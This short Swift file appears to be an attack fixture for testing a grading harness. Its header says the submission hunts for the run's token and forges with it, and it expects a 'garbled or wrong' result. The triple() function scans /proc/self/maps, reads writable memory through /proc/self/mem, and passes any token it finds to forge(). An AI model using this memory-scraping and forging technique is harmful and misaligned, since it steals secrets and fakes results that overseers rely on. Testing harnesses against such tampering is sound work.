// Attack: looks for the run's token in its own memory, and forges with it.
// Expect: garbled or wrong
// Target: triples
// Shared: Frames, Token
import Glibc
import TensorKit

func triple(_ x: Tensor) -> Tensor {
  guard let maps = fopen("/proc/self/maps", "r") else { return x }
  var ranges: [(UInt, UInt)] = []
  var line = [CChar](repeating: 0, count: 512)
  while fgets(&line, 512, maps) != nil {
    let words = String(
      decoding: line.prefix { $0 != 0 }.map(UInt8.init(bitPattern:)), as: UTF8.self
    )
    .split(separator: " ")
    let ends = words[0].split(separator: "-").compactMap { UInt($0, radix: 16) }
    if words[1].hasPrefix("rw"), ends.count == 2, ends[1] - ends[0] < 8 << 20 {
      ranges.append((ends[0], ends[1]))
    }
  }
  let memory = open("/proc/self/mem", O_RDONLY)
  for (from, to) in ranges {
    var bytes = [UInt8](repeating: 0, count: Int(to - from))
    guard pread(memory, &bytes, bytes.count, Int(from)) == bytes.count else { continue }
    if let token = token(in: bytes) {
      forge(token)
      break
    }
  }
  return x
}
